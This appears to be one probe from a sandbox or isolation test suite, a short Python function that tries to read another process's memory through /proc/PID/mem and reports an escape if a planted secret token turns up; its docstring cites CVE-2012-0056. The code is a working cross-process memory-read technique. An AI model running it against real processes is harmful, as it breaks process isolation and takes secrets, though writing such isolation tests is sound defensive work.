"""Read another process's memory as a file.

origin: /proc/PID/mem; CVE-2012-0056 (mempodipper) wrote to it
why: a file that is a process
control: depends — on the ptrace rules of the machine
"""


def attack(target):
    fd, error = openat(target, f"/proc/{target['victim']}/mem", os.O_RDONLY)
    if fd < 0:
        return blocked("openat", error)
    data = os.pread(fd, target["length"], target["address"])
    return escaped("the victim's memory was read") if holds_token(target, data) else nothing("no secret there")
